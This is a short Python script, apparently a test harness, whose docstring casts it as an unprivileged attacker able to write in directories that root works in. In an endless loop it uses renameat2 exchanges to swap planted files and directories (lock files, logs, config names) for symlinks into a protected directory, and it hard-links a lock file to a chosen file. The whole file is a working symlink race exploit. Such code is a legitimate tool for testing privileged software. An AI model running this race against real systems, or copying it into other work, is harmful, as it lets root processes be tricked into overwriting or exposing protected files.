# SPDX-License-Identifier: MIT
"""Somebody who may write where root works, and makes use of it.

It is run as another user, with a list of directories, a file that it may
change, and a directory that it may not. Until it is killed it swaps what it
finds in the former for links to the latter, as fast as it can.
"""
import ctypes
import itertools
import os
import sys

AT_FDCWD, RENAME_EXCHANGE = -100, 2
renameat2 = ctypes.CDLL(None, use_errno=True).renameat2

# Names that commands of the pages look for there, and one that none knows.
DIRECTORIES = (".claimed", ".served", "12", "x")
FILES = ("README.md", "default", ".lock", "10.0.0.7", "pxesrv.log")


def attempt(function, *arguments):
    try:
        function(*arguments)
    except OSError:
        pass


def make_file(path):
    os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o666))


def make_directory(path):
    attempt(os.mkdir, path, 0o777)
    for name in FILES + ("f",):
        attempt(make_file, f"{path}/{name}")


def prepare(directory, name, victim):
    """What is to be swapped for what."""
    path, other = f"{directory}/{name}", f"{directory}/.swap-{name}"
    if name in DIRECTORIES:
        make_directory(path)
        attempt(os.symlink, victim, other)
    else:
        attempt(make_file, path)
        attempt(os.symlink, f"{victim}/{name}", other)
    return os.fsencode(path), os.fsencode(other)


def attack(directories, shared, victim):
    for turn in itertools.count():
        if turn % 50 == 0:  # the command may have taken some of it away
            pairs = [prepare(directory, name, victim)
                     for directory in directories
                     for name in DIRECTORIES + FILES]
        for path, other in pairs:
            renameat2(AT_FDCWD, path, AT_FDCWD, other, RENAME_EXCHANGE)
        lock = f"{directories[0]}/.lock"
        attempt(os.unlink, lock)
        attempt(os.link, shared, lock)
        if turn == 1:
            print("at it", flush=True)


os.umask(0)
attack(sys.argv[3:], sys.argv[1], sys.argv[2])
